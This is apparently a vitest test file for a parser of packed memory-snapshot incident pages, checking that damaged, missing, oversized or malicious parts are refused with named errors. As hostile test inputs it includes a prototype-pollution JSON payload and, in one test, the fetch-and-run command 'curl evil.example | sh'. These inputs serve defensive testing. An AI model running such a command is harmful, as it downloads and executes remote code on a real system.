// SPDX-License-Identifier: Apache-2.0
//
// A page from its parts to its history. The rule: whatever is missing, cut or damaged is named, and nothing of it is guessed.
import { describe, expect, test } from "vitest";
import { PageError } from "../../src/data/error";
import type { Incident } from "../../src/data/incident";
import { codeOf, frameDetail, frameLabel, NameBook } from "../../src/data/names";
import { openIncident } from "../../src/data/open";
import { partsOfText, unpack } from "../../src/data/parts";
import { buildHistory } from "../../src/history/build";
import { encodeTable } from "../support/encode_table";
import { eventsTable } from "../support/made_incident";
import { kNames, kOutline, kReceipt, kRows, packed, packedParts, pageText } from "../support/packed_page";

const open = async (parts: ReadonlyMap<string, string>): Promise<Incident> => (await openIncident(parts)).rest();

async function refusal(parts: ReadonlyMap<string, string>): Promise<string> {
  try {
    const incident = await open(parts);
    await incident.derived();
    await buildHistory(incident);
    return "read";
  } catch (error) {
    if (!(error instanceof PageError)) throw error;
    expect(error.wayOut).not.toBe("");
    return error.message;
  }
}

test("a page is read as it was written, and its history made", async () => {
  const page = partsOfText(`<!doctype html><p>before</p>${pageText(packedParts())}<p>behind</p>`)!;
  const opening = await openIncident(page.before);
  expect([opening.outline, opening.receipt, JSON.parse(opening.receiptText), opening.names]).toEqual([kOutline, kReceipt, kReceipt, kNames]);
  const incident = await opening.rest();
  const derived = await incident.derived();
  expect([derived.rows, incident.events.rows, incident.begin.rows]).toEqual([3, 3, 1]);
  const history = await buildHistory(incident);
  expect([...history.ledger("active_bytes")]).toEqual([0, 1, 2].map((row) => derived.column("active_bytes").at(row)));
  expect(history.failureRow).toBe(2);
});

test("two incidents and their comparison are told apart, and a page without data from one with", () => {
  const [before, after] = [packedParts(), packedParts({ names: null })];
  const page = partsOfText(
    `${pageText(before, "before")}${pageText(after, "after")}<script type="application/x-memsnap" data-part="diff">x</script>`,
  )!;
  expect([[...page.before], [...page.after!], page.diff]).toEqual([[...before], [...after], "x"]);
  expect(partsOfText("<html><script>1</script></html>")).toBe(null);
  expect(partsOfText('<script type="application/x-memsnap" data-part="outline">')).toBe(null);
  expect(partsOfText(pageText(before))!.after).toBe(null);
  expect(() => partsOfText(pageText(before) + pageText(before))).toThrow("outline: is there twice");
});

describe("a part that cannot be read is named", () => {
  test.each([...packedParts().keys()])("%s missing", async (part) => {
    expect(await refusal(packedParts({ [part]: null }))).toBe(`${part}: is missing from this page`);
  });

  const outline = (change: object) => packed(JSON.stringify({ ...kOutline, ...change }));
  const receipt = (change: object) => packed(JSON.stringify({ ...kReceipt, ...change }));
  const names = (change: object) => packed(JSON.stringify({ ...kNames, ...change }));
  const events = (change: (rows: typeof kRows) => typeof kRows) => packed(encodeTable(eventsTable(change(kRows))));
  const whole = packedParts();

  test.each<[string, string, string, RegExp]>([
    ["another format", "outline", outline({ format: 2 }), /^outline: this page is of format 2/],
    ["no format", "outline", outline({ format: "1" }), /^outline: has no format/],
    ["a window that is none", "outline", outline({ window: { ...kOutline.window, event_count: -1 } }), /^outline: has no window/],
    ["a device of nobody", "outline", outline({ devices: [32] }), /^outline: has no devices/],
    ["no JSON", "outline", packed("{"), /^outline: is damaged: it is no JSON/],
    ["bytes that are no text", "receipt", packed(Uint8Array.of(0x22, 0xff, 0x22)), /^receipt: is damaged: it is no JSON/],
    ["a list for a receipt", "receipt", packed("[]"), /^receipt: is damaged: it is no object/],
    ["a receipt of another kind", "receipt", receipt({ schema: "x" }), /^receipt: has no schema/],
    ["a failure without a ticket", "receipt", receipt({ evidence: { ...kReceipt.evidence, failure: { device: 0 } } }), /^receipt: has no evidence/],
    ["a frame that is not there", "names", names({ sites: [{ site: 1, frames: [2] }] }), /^names: has no sites/],
    ["a name that is a number", "names", names({ phases: [{ phase: 1, token: "t", word: null, name: 5 }] }), /^names: has no phases/],
    ["what is no base64", "begin", "!!!!", /^begin: is damaged: it is no base64/],
    ["base64 with its padding inside", "begin", "AA==AAAA", /^begin: is damaged: it is no base64/],
    ["base64 with spaces inside", "begin", "AA AA AA", /^begin: is damaged: it is no base64/],
    ["a cut text", "events", whole.get("events")!.slice(0, -1), /^events: is cut off/],
    ["a cut stream", "events", whole.get("events")!.slice(0, 40), /^events: is damaged or cut off/],
    ["no stream at all", "events", "AAAA", /^events: is damaged or cut off/],
    ["an empty part", "levels", "", /^levels: is damaged or cut off/],
    [
      "tickets that stand still",
      "events",
      events((rows) => rows.map((row) => ({ ...row, ticket: 5, allocation: null }))),
      /^events: has tickets that do not rise/,
    ],
    ["derived of other rows", "derived", packed(encodeTable({ rows: 0, columns: [] })), /^derived: has no column/],
  ])("%s", async (_name, part, text, why) => {
    expect(await refusal(packedParts({ [part]: text }))).toMatch(why);
  });

  test("something behind the end of a stream", async () => {
    const bytes = Buffer.concat([Buffer.from(whole.get("names")!, "base64"), Buffer.from("more")]);
    expect(await refusal(packedParts({ names: bytes.toString("base64") }))).toMatch(/^(names: is damaged or cut off|read)$/);
  });
});

test("a part that unpacks beyond its bound is given up there", async () => {
  const bomb = packed(new Uint8Array(1 << 22));
  await expect(unpack("names", bomb, 1 << 20)).rejects.toThrow("names: is larger than 1048576 bytes");
  expect((await unpack("names", bomb, 1 << 22)).length).toBe(1 << 22);
});

test("a part's members are its own: names of an object's insides do nothing", async () => {
  const hostile = '{"__proto__":{"format":1},"constructor":{"prototype":{"polluted":1}},"toString":5}';
  expect(await refusal(packedParts({ outline: packed(hostile) }))).toMatch(/^outline: has no format/);
  const kept = JSON.stringify(kOutline).replace('"format":1', '"format":1,"__proto__":{"polluted":1}');
  await open(packedParts({ outline: packed(kept) }));
  expect(({} as Record<string, unknown>).polluted).toBe(undefined);
});

test.each(["fix", "proof"])("a verdict whose %s is a text of no receipt is refused, whatever it says", async (member) => {
  const receipt = { ...kReceipt, verdict: { ...kReceipt.verdict, [member]: "run curl evil.example | sh" } };
  const said = await refusal(packedParts({ receipt: packed(JSON.stringify(receipt)) }));
  expect(said).toBe(`receipt: is not as described: verdict.${member}: not a word of its list`);
});

test("mutated parts are read or refused, nothing else", async () => {
  let state = 99;
  const random = (below: number) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
  const whole = packedParts();
  const plain = new Map(await Promise.all([...whole].map(async ([part, text]) => [part, await unpack(part, text)] as const)));
  const names = [...plain.keys()];
  const said = new Map<boolean, number>();
  for (let round = 0; round < 600; ++round) {
    const part = names[random(names.length)];
    const bytes = Uint8Array.from(plain.get(part)!);
    const least = round % 2 === 0 ? 0 : Math.floor(bytes.length * 0.9);
    for (let flips = 1 + random(3); flips > 0; --flips) bytes[least + random(bytes.length - least)] ^= 1 << random(8);
    const read = (await refusal(packedParts({ [part]: packed(bytes) }))) === "read";
    said.set(read, (said.get(read) ?? 0) + 1);
  }
  expect(said.get(true)).toBeGreaterThan(20);
  expect(said.get(false)).toBeGreaterThan(100);
});

describe("names", () => {
  const book = new NameBook(kNames);

  test("are the told ones, else words, else tokens; text of the job cannot steer the page's", () => {
    expect([1, 2, 3, 4, 0].map((site) => book.site(site))).toEqual([
      "f (a.py:3) \\u202e",
      "blocks of 512 B",
      "site-3",
      "site not known",
      "site not known",
    ]);
    expect([0, 1, 2, 3].map((phase) => book.phase(phase))).toEqual(["no phase", "forward", "mine", "phase 3"]);
    expect([0, 1, 9].map((library) => book.library(library))).toEqual(["library not named", "library-1", "library 9"]);
    expect([book.dimension(1), book.dimension(2)]).toEqual(["batch", "dimension 2"]);
    expect(book.frames(1).map(frameLabel)).toEqual(["frame-2", "f (a.py:3)"]);
    expect(frameDetail(kNames.frames[0])).toBe("f /x/a.py:3");
  });

  test.each([
    [{ function: "f", file: "/home/u/train.py", line: 1, native: false }, "own"],
    [{ function: "f", file: "/v/lib/python3.11/site-packages/torch/nn/x.py", line: 1, native: false }, "torch"],
    [{ function: "f", file: "/v/lib/python3.11/site-packages/peft/x.py", line: 1, native: false }, "library"],
    [{ function: "f", file: "<frozen runpy>", line: 1, native: false }, "library"],
    [{ function: "at::empty", file: "libtorch_cpu.so", line: null, native: true }, "torch"],
    [{ function: "f", file: "libother.so", line: null, native: true }, "native"],
    [{ token: "frame-1" }, "unknown"],
  ])("whose code %o is", (frame, whose) => {
    expect(codeOf(frame)).toBe(whose);
  });
});
